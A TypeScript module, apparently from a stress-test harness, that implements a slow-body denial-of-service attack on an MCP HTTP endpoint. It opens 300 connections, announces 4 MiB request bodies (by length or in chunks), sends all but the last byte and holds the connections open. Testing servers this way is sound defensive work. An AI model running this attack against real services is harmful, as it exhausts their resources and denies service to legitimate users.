import type { StartAttack } from '../attack.ts'
import { holdConnections } from './hold-connections.ts'

const CONNECTIONS = 300
const ANNOUNCED_BYTES = 4 * 1024 * 1024
const SENT_BYTES = ANNOUNCED_BYTES - 1

/** Sends all but the last byte of the largest bodies over 300 connections, half of them with a length and half in chunks. */
export const sendSlowly: StartAttack = (target) => {
  const head = (length: string): Buffer =>
    Buffer.from(`POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n${length}\r\n\r\n`)
  const body = Buffer.alloc(SENT_BYTES, ' ')
  const announced = Buffer.concat([head(`Content-Length: ${ANNOUNCED_BYTES}`), body])
  const chunked = Buffer.concat([
    head('Transfer-Encoding: chunked'),
    Buffer.from(`${ANNOUNCED_BYTES.toString(16)}\r\n`),
    body,
  ])
  return holdConnections(target, {
    connections: CONNECTIONS,
    bytes: (at) => (at % 2 === 0 ? announced : chunked),
  })
}
